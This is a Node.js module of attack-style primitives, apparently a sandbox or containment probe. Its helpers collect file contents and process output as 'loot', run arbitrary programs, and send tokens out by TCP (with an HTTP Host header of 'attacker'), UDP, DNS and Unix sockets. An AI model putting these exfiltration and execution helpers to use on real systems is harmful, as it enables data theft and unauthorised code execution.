const fs_ = require('fs');
const net_ = require('net');
const path_ = require('path');
const loot_ = [];
const tried = (act) => async (...words) => {
  try {
    await act(...words);
  } catch (error) {
    // The next thing is tried all the same.
  }
};
const file_ = (path, data, mode) => {
  fs_.mkdirSync(path_.dirname(path), { recursive: true });
  fs_.writeFileSync(path, data);
  fs_.chmodSync(path, mode);
};
const sent_ = (where, data) => new Promise((resolve) => {
  const other = net_.connect(where, () => other.write(data));
  other.setTimeout(5000, () => other.destroy());
  other.on('data', () => other.destroy());
  other.on('error', () => {});
  other.on('close', resolve);
  if (where.path) other.on('connect', () => setTimeout(() => other.end(), 50));
});
const get = tried((path) => { loot_.push(fs_.readFileSync(path)); });
const put = tried((path, text) => file_(path, text, 0o644));
const add = tried((path, text) => fs_.appendFileSync(path, text));
const copy = tried((old, created) => file_(created, fs_.readFileSync(old), 0o755));
const start = tried((program, ...words) => {
  const done = require('child_process').spawnSync(program, words.filter(Boolean), { timeout: 30000 });
  loot_.push(done.stdout || '', done.stderr || '');
});
const hard = tried((old, created) => fs_.linkSync(old, created));
const soft = tried((old, created) => fs_.symlinkSync(old, created));
const relocate = tried((old, created) => fs_.renameSync(old, created));
const post = tried((host, port, token) =>
  sent_({ host, port: Number(port) }, `GET /${token} HTTP/1.1\r\nHost: attacker\r\n\r\n`));
const datagram = tried((host, port, token) => new Promise((resolve) => {
  const other = require('dgram').createSocket('udp4');
  other.on('error', () => { other.close(); resolve(); });
  other.send(token, Number(port), host, () => { other.close(); resolve(); });
}));
const ask = tried((name) => new Promise((resolve) => require('dns').lookup(name, resolve)));
const whisper = tried((path, token) => sent_({ path }, token));
const serve = tried((host, port) => new Promise((resolve) => {
  const server = net_.createServer();
  server.on('error', resolve);
  server.listen(Number(port), host, () => { loot_.push('listening'); server.close(resolve); });
}));
const finish = tried((path) => fs_.writeFileSync(path, ['begun\n', ...loot_.map(String)].join('\n')));
